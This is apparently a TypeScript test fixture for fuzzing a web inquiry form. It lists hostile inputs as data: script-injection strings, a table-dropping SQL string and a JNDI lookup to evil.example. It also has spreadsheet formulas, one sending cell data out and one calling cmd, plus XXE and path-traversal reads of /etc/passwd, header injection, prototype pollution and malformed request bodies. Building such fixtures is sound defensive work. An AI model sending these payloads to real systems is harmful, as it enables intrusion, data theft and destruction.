/**
 * What hostile, careless and unlucky people send, as data: every nasty text in every field that takes any, in each type of
 * body; whole bodies that are none; and files that are not what they say.
 */

/** A text by what it is; `times` repeats it. */
interface Nasty {
  readonly what: string;
  readonly text: string;
  readonly times?: number;
}

/** The mark by which a script of ours would be recognised in a page. */
const script = "alert('hostile')";

export const nastyTexts: readonly Nasty[] = [
  { what: "a script", text: `<script>${script}</script>` },
  { what: "a script that ends a text area", text: `</textarea><script>${script}</script>` },
  { what: "a script that ends a title", text: `</title></head><script>${script}</script>` },
  { what: "a script that ends a block of JSON", text: `</script><script>${script}</script>` },
  { what: "an image with a handler", text: `<img src=x onerror=${script}>` },
  { what: "a drawing with a handler", text: `<svg/onload=${script}>` },
  { what: "an attribute that is broken out of", text: `" autofocus onfocus="${script}` },
  { what: "one in single quotes", text: `' onmouseover='${script}` },
  { what: "one without quotes", text: "x onfocus=alert(1) autofocus" },
  { what: "an address that runs", text: `javascript:${script}` },
  { what: "a frame", text: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { what: "a form of its own", text: '<form action="https://evil.example"><input name=mail>' },
  { what: "a base", text: '<base href="https://evil.example/">' },
  { what: "a refresh", text: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { what: "a style", text: "<style>*{display:none}</style>" },
  { what: "a comment that does not end", text: "<!-- " },
  { what: "character references", text: "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;" },
  { what: "a template", text: "${7*7} {{7*7}} <%= 7*7 %> #{7*7}" },
  { what: "a query", text: "'; DROP TABLE cases; --" },
  { what: "a lookup", text: "${jndi:ldap://evil.example/a}" },
  { what: "a formula", text: "=1+1" },
  { what: "a formula that calls", text: `=HYPERLINK("https://evil.example?"&A1,"押す")` },
  { what: "a formula with plus", text: "+1+cmd|' /C calc'!A0" },
  { what: "a formula with minus", text: "-1+1" },
  { what: "a formula with at", text: "@SUM(1+1)" },
  { what: "a formula after a tab", text: "\t=1+1" },
  { what: "a formula after a line end", text: "\r=1+1" },
  { what: "a formula in full width", text: "＝1＋1" },
  { what: "quotes, commas and line ends", text: 'a","b"\r\n"c",""' },
  { what: "a high surrogate alone", text: "前\ud842後" },
  { what: "a low surrogate alone", text: "前\udfb7後" },
  { what: "surrogates the wrong way round", text: "\udfb7\ud842" },
  { what: "NUL", text: "前\u0000後" },
  {
    what: "every control character",
    text: Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join("字"),
  },
  { what: "delete and the second control block", text: "前\u007f\u0080\u0085\u009f後" },
  { what: "escape sequences of a terminal", text: "\u001b[2J\u001b]0;title\u0007" },
  { what: "emoji", text: "😀👨‍👩‍👧‍👦🏳️‍🌈🇯🇵" },
  { what: "characters beyond the first plane", text: "𠮷野家 𩸽 𠀋" },
  { what: "characters that CP932 writes its own way", text: "髙橋 﨑 ①Ⅳ㈱ 〜−‖" },
  { what: "a right-to-left override", text: "領収書\u202egpj.exe" },
  { what: "isolates that do not end", text: "\u2066\u2067\u2068前後" },
  { what: "right-to-left marks and Arabic", text: "\u200f\u061cمرحبا\u200e" },
  { what: "letters of no width", text: "a\u200b\u200c\u200d\ufeffb" },
  { what: "line and paragraph separators", text: "一\u2028二\u2029三" },
  { what: "marks piled on marks", text: `ゔ${"\u0301".repeat(500)}` },
  { what: "half-width katakana", text: "ﾊﾝｶｸ ｶﾞｷﾞ" },
  { what: "unassigned and private characters", text: "\uffff\ufffe\ue000\u{10ffff}" },
  { what: "a path", text: "../../../../etc/passwd" },
  { what: "a path of Windows", text: "C:\\Windows\\system32\\config\\SAM" },
  { what: "percent signs", text: "%00%0d%0aSet-Cookie:%20a=b%s%n" },
  { what: "headers of a mail", text: "someone@example.jp\r\nBcc: everybody@example.jp\r\n\r\nhello" },
  { what: "two addresses", text: "a@example.jp, b@example.jp" },
  { what: "an address with a name", text: '"花子" <hanako@example.jp>' },
  { what: "a name of every object", text: "__proto__" },
  { what: "another one", text: "constructor" },
  { what: "JSON", text: '{"$gt":"","token":null}' },
  { what: "nothing but spaces", text: " \t\n　 " },
  { what: "one character too many for a content", text: "あ", times: 4_001 },
  { what: "a hundred thousand characters", text: "𠮷", times: 100_000 },
  { what: "ten million bytes", text: "a", times: 10_000_000 },
];

/** Fields that hold free text: each meets every nasty text in every type of body. */
export const freeFields = ["content", "name", "reachable"] as const;

/** All others, hidden ones too: each meets every nasty text in one type of body, in turn. */
export const otherFields = [
  "category",
  "replyBy",
  "mail",
  "telephone",
  "relation",
  "municipality",
  "ageBand",
  "device",
  "consent",
  "website",
  "token",
  "language",
  "unknownField",
  "__proto__",
] as const;

/** Bodies that are no form, with the content type that they claim. */
export const nastyBodies: readonly {
  readonly what: string;
  readonly type: string | undefined;
  readonly body: string;
}[] = [
  { what: "no type", type: undefined, body: "content=a" },
  { what: "an empty type", type: "", body: "content=a" },
  { what: "text", type: "text/plain", body: "content=a" },
  { what: "HTML", type: "text/html", body: "<form>" },
  {
    what: "XML with an entity",
    type: "application/xml",
    body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  },
  { what: "a type that is none", type: "multipart", body: "a" },
  { what: "a type with a line end", type: "application/json\r\nx: y", body: "{}" },
  { what: "another multipart", type: "multipart/mixed; boundary=b", body: "--b--" },
  { what: "no boundary", type: "multipart/form-data", body: "--b--" },
  { what: "an empty boundary", type: "multipart/form-data; boundary=", body: "--" },
  { what: "another boundary", type: "multipart/form-data; boundary=c", body: "--b\r\n\r\n--b--" },
  {
    what: "a part that does not end",
    type: "multipart/form-data; boundary=b",
    body: '--b\r\nContent-Disposition: form-data; name="content"\r\n\r\na',
  },
  {
    what: "a part without a name",
    type: "multipart/form-data; boundary=b",
    body: "--b\r\nContent-Disposition: form-data\r\n\r\na\r\n--b--",
  },
  {
    what: "a part of an unknown encoding",
    type: "multipart/form-data; boundary=b",
    body: '--b\r\nContent-Disposition: form-data; name="content"\r\nContent-Transfer-Encoding: bogus\r\n\r\na\r\n--b--',
  },
  { what: "JSON that is cut off", type: "application/json", body: '{"content":"a' },
  { what: "null", type: "application/json", body: "null" },
  { what: "a list", type: "application/json", body: "[1,2]" },
  { what: "a number", type: "application/json", body: "1e999" },
  {
    what: "objects where texts belong",
    type: "application/json",
    body: '{"content":{"toString":1},"mail":["a"],"token":{},"language":7}',
  },
  { what: "very deep JSON", type: "application/json", body: `${"[".repeat(100_000)}${"]".repeat(100_000)}` },
  {
    what: "an object's prototype",
    type: "application/json",
    body: '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"a":1}}}',
  },
  { what: "JSON in UTF-16", type: "application/json; charset=utf-16", body: "\ufeff{\u0000}\u0000" },
  {
    what: "percent signs that are no bytes",
    type: "application/x-www-form-urlencoded",
    body: "content=%E0%A4%A&%=%&mail=%FF%FE",
  },
  { what: "ten thousand fields", type: "application/x-www-form-urlencoded", body: "a=b&".repeat(10_000) },
  {
    what: "a field ten thousand times",
    type: "application/x-www-form-urlencoded",
    body: "content=b&".repeat(10_000),
  },
  {
    what: "another character set",
    type: "application/x-www-form-urlencoded; charset=shift_jis",
    body: "content=%95%5C",
  },
  { what: "nothing", type: "application/x-www-form-urlencoded", body: "" },
  { what: "nothing in JSON", type: "application/json", body: "" },
];

/** Names of files that come with an inquiry; their bytes are a picture's. */
export const nastyFileNames: readonly string[] = [
  "../../../etc/passwd",
  "..\\..\\boot.ini",
  "/absolute/path.png",
  "C:\\Users\\a.png",
  "a.png\u0000.exe",
  `"><script>${script}</script>.png`,
  "=cmd|' /C calc'!A0.png",
  "領収書\u202egnp.exe",
  "\ud842.png",
  "𠮷髙😀.png",
  "a\r\nContent-Type: text/html\r\n\r\n<b>.png",
  ".htaccess",
  "..",
  " ",
  "CON",
  "a".repeat(5_000),
  "%2e%2e%2fpasswd",
  "file:///etc/passwd",
  "a;b&c|d`e`$(f).png",
  "<svg onload=alert(1)>.svg",
];
